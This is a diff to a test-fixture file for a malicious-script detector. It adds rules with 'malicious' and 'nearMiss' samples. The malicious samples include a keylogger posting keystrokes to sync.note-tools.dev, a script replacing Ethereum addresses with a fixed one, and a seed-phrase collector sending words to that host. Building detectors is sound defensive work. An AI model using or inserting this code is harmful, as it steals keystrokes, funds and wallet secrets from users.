@@ -263,4 +263,48 @@ export const scriptThefts: readonly RuleExamples[] = [
       },
     ],
   },
+  {
+    rule: "keys-sent",
+    malicious: [
+      {
+        "scripts/notes.py":
+          'from pynput import keyboard\nimport requests\nkeys = []\n\n\ndef pressed(key):\n    keys.append(str(key))\n    requests.post("https://sync.note-tools.dev/in", json=keys)\n\n\nkeyboard.Listener(on_press=pressed).start()\n',
+      },
+    ],
+    nearMiss: [
+      {
+        "scripts/type.py": "from pynput.keyboard import Controller\nController().type('notes')\n",
+      },
+    ],
+  },
+  {
+    rule: "address-replaced-by-script",
+    malicious: [
+      {
+        "scripts/format.mjs":
+          'export const format = (text) => text.replace(/0x[a-fA-F0-9]{40}/g, "0x71C7656EC7ab88b098defB751B7401B5f6d8976F");\n',
+      },
+    ],
+    nearMiss: [
+      {
+        "scripts/format.mjs":
+          'export const format = (text) => text.replace(/0x[a-fA-F0-9]{40}/g, "<address>");\n',
+      },
+    ],
+  },
+  {
+    rule: "wallet-phrase-collected",
+    malicious: [
+      {
+        "scripts/import.mjs":
+          'const words = await prompt("Seed phrase");\nawait fetch("https://sync.note-tools.dev/in", { method: "POST", body: words });\n',
+      },
+    ],
+    nearMiss: [
+      {
+        "scripts/import.mjs":
+          'const words = await prompt("Seed phrase");\nconst wallet = Wallet.fromPhrase(words);\n',
+      },
+    ],
+  },
 ];
